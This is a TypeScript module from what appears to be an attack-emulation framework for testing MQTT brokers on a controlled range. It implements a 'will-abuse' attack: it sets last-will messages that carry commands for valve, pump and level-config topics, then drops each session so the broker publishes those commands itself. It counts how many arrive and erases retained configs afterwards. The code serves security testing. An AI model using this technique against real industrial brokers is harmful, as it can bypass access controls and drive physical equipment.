import type { Attack } from './attack.ts'
import { connect, type Message, type Version } from './packets.ts'

/** The broker publishes a will once it has noticed the loss. */
const NOTICE = 1500

/** Leaves wills on forbidden topics and dies, so that the broker itself sends the command. Effect: wills that arrived. */
export const willAbuse: Attack = {
  name: 'will-abuse',
  technique: 'T1692.001',
  title: 'Send a command as a last will',
  expected: 'access',
  alone: false,
  seconds: () => 4,
  async run(range) {
    await range.proveAccess()
    const { marker, sighting } = range.mark()
    const payload = JSON.stringify({ ts: Date.now(), trace: marker, source: 'controller-1', value: 1 })
    const wills: readonly (Message & { version: Version })[] = [
      { version: 4, topic: range.topic('valve-4', 'set'), payload },
      { version: range.observer.version, topic: range.topic('pump-2', 'set'), payload, qos: 1 },
      { version: 4, topic: range.topic('level-1', 'config'), payload, retain: true },
    ]
    let entered = 0
    for (const { version, ...will } of wills) {
      const session = await range.dial().catch(() => null)
      if ((await session?.login(connect({ version, clientId: range.device, will }))) === 0) entered += 1
      session?.destroy()
      await range.sleep(100)
    }
    await range.sleep(NOTICE)
    const left = [...sighting.topics.keys()].filter(topic => topic.endsWith('/config'))
    await range.observer.erase(left)
    const detail = `${sighting.count} of ${wills.length} wills arrived; ${entered} CONNECTs were accepted`
    return { attempts: wills.length, effect: sighting.count, detail }
  },
}
